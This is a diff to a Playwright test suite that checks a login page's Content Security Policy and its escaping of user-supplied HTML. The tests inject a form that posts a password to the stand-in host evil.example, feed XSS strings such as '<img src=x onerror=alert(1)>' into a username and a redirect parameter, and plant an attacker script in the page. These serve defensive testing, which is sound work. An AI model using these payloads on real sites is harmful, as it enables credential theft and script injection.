@@ -14,7 +14,7 @@ async function injected(page: Page): Promise<number> {
 async function serveWith(page: Page, path: string, html: string): Promise<void> {
   await page.route(path, async (route) => {
     const answer = await route.fetch();
-    const body = (await answer.text()).replace('</main>', `</main>${html}`);
+    const body = (await answer.text()).replace('</body>', `${html}</body>`);
     await route.fulfill({ response: answer, body });
   });
 }
@@ -70,11 +70,15 @@ test('a javascript: address is not followed', async ({ page, signInPage, policy,
 test('a form that is injected can\'t send a password elsewhere', async ({ page, policy, browserConsole }) => {
   policy.expects(/^form-action https:\/\/evil\.example/);
   browserConsole.expects(/Content Security Policy/i);
+  const sent: string[] = [];
+  page.on('request', (request) => sent.push(new URL(request.url()).hostname));
   await serveWith(page, '/login', '<form action="https://evil.example/" method="post"><button>trap</button></form>');
   await page.goto('/login');
-  await page.getByRole('button', { name: 'trap' }).click();
+  await page.getByRole('button', { name: 'trap' }).click({ noWaitAfter: true });
   await expect.poll(() => policy.refused.length).toBeGreaterThan(0);
-  await expect(page).toHaveURL('/login');
+  expect(sent).not.toContain('evil.example');
+  // For Playwright the navigation that was refused stays pending for ever.
+  await page.close();
 });
 
 /** What a script that has got into the page would try, to get more in. Each runs as the page's own code would. */
@@ -99,7 +103,7 @@ for (const [what, script] of Object.entries(BY_SCRIPT)) {
     // The page's own first script, which has the nonce, is made the attacker's foothold.
     await page.route('/login', async (route) => {
       const answer = await route.fetch();
-      const foothold = `self.attack = () => { ${script} };`;
+      const foothold = `self.attack = () => { ${script.replaceAll('</script>', '<\\/script>')} };`;
       const body = (await answer.text()).replace(/(<script type="module" nonce="?[^">]+"?>)/, `$1${foothold}`);
       expect(body).toContain('self.attack');
       await route.fulfill({ response: answer, body });
@@ -127,7 +131,7 @@ for (const [what, script] of Object.entries(BY_SCRIPT)) {
   });
 }
 
-test('a name of HTML is shown as text wherever it could be put', async ({ page, home, signInPage, registerPage, browserConsole }) => {
+test('a name of HTML is shown as text wherever it could be put', async ({ page, signInPage, browserConsole }) => {
   browserConsole.expectsStatus(401, 422);
   const name = '</script><img src=x onerror=alert(1)>';
   await signInPage.open();
@@ -142,8 +146,6 @@ test('a name of HTML is shown as text wherever it could be put', async ({ page, 
   await expect(signInPage.username).toHaveValue(name);
   await page.goto(`/login?next=${encodeURIComponent(`/"><img src=x onerror=alert(1)>`)}`);
   await expect(page.getByRole('main').getByRole('img')).toHaveCount(0);
-  await expect(registerPage.heading).toBeHidden();
-  await expect(home.notice).toBeHidden();
 });
 
 test('each answer has a nonce of its own, and its policy is strict', async ({ page }) => {
